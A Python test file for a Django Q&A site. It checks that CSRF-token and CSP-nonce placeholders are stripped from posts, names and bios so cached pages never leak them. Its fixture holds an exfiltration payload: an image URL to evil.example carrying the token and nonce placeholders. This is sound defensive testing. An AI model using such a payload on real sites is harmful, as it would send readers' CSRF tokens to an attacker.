"""Cached pages get each reader's CSRF token and CSP nonce only where the renderer put
them, never inside what people wrote (an image address holding a placeholder would send
every signed-in reader's token to another site)."""

import re

import pytest

from moderation.sanitize import strip_page_marks
from qa import services
from qa.models import Answer
from tests.community.factories import UserFactory

pytestmark = pytest.mark.django_db

GUESSED = "__sodan_csrf_0123456789abcdef0123456789abcdef__"
BODY = (
    "Try this picture: "
    f"![steps](https://evil.example/p.png?t=__sodan_csrf_token__&n=__sodan_csp_nonce__&g={GUESSED})"
    "\n\nOr paste __sodan_csrf_token__ and &#95;&#95;sodan&#95;csp&#95;nonce&#95;&#95; and "
    f"{GUESSED} and `__sodan_nonce_0123456789abcdef0123456789abcdef__` in the box."
)


def _reader_secrets(response) -> tuple[str, str]:
    html = response.content.decode()
    token = re.search(r'"X-CSRFToken": "([^"]+)"', html).group(1)
    nonce = response["Content-Security-Policy"].split("'nonce-")[1].split("'")[0]
    return token, nonce


def _answer_html(response, answer: Answer) -> str:
    """What the answer's author wrote, as the page shows it."""
    html = response.content.decode()
    start = html.index('class="post-body', html.index(f'id="answer-{answer.pk}"'))
    return html[start : html.index("</div>", start)]


def _assert_nothing_leaks(response, answer: Answer) -> None:
    token, nonce = _reader_secrets(response)
    inside = _answer_html(response, answer)
    assert "evil.example" in inside  # the picture is there, only without the marks
    assert token not in inside
    assert nonce not in inside
    assert "__sodan" not in response.content.decode()


def test_an_answer_holding_placeholders_gets_no_readers_token(client, thread, other_customer):
    client.force_login(other_customer)
    posted = client.post(f"/t/{thread.pk}/-/answer/", {"body": BODY})
    assert posted.status_code == 302
    answer = Answer.objects.get(thread=thread)
    client.force_login(UserFactory())
    first = client.get(thread.get_absolute_url())
    second = client.get(thread.get_absolute_url())
    assert (first["X-Sodan-Cache"], second["X-Sodan-Cache"]) == ("miss", "hit")
    _assert_nothing_leaks(first, answer)
    _assert_nothing_leaks(second, answer)


def test_placeholders_are_stripped_before_the_post_is_stored(thread, other_customer):
    answer = services.answer_create(author=other_customer, thread=thread, body=BODY)
    for stored in (answer.body, answer.body_html):
        assert "__sodan" not in stored
    assert "evil.example" in answer.body_html


def test_a_stored_post_with_placeholders_still_gets_no_token(client, thread, other_customer):
    """Posts stored before the placeholders were stripped, as they are in the database."""
    answer = services.answer_create(author=other_customer, thread=thread, body="Hold reset.")
    Answer.objects.filter(pk=answer.pk).update(
        body_html=(
            '<p><img src="https://evil.example/p.png?t=__sodan_csrf_token__'
            f'&amp;n=__sodan_csp_nonce__&amp;g={GUESSED}" alt="x"> __sodan_csrf_token__</p>'
        )
    )
    client.force_login(UserFactory())
    first = client.get(thread.get_absolute_url())
    second = client.get(thread.get_absolute_url())
    assert second["X-Sodan-Cache"] == "hit"
    for response in (first, second):
        token, nonce = _reader_secrets(response)
        inside = _answer_html(response, answer)
        assert "__sodan_csrf_token__" in inside  # left as it was written
        assert token not in inside and nonce not in inside


def test_an_anonymous_page_and_a_brand_list_get_the_nonce_only_where_it_belongs(
    client, brand, thread, other_customer
):
    services.thread_create(
        author=other_customer, brand=brand, type="question", title="__sodan_csp_nonce__ x",
        body="Nonce: __sodan_csp_nonce__",
    )  # fmt: skip
    for url in (thread.get_absolute_url(), brand.get_absolute_url()):
        for _ in range(2):
            response = client.get(url)
            nonce = response["Content-Security-Policy"].split("'nonce-")[1].split("'")[0]
            html = response.content.decode()
            assert html.count(nonce) == html.count(f'nonce="{nonce}"') > 0


def test_marks_are_stripped_whatever_surrounds_them():
    assert strip_page_marks("a __sodan_csrf_token__ b") == "a  b"
    assert strip_page_marks(f"x{GUESSED}y") == "xy"
    # Removing one mark must not leave another behind.
    assert "__sodan" not in strip_page_marks("__sodan___sodan_csrf_token__csrf_token__")
    assert "__sodan" not in strip_page_marks("__sod__sodan_x__an_csrf_token__")
    assert strip_page_marks("__init__ and sodan_csrf") == "__init__ and sodan_csrf"


def test_a_display_name_loses_its_placeholders(other_customer):
    from community import services as community_services

    user = community_services.profile_update(
        user=other_customer,
        display_name="Ken __sodan_csrf_token__",
        bio=f"Bio {GUESSED}",
        email_notifications=True,
        language="",
    )
    assert (user.display_name, user.bio) == ("Ken", "Bio")
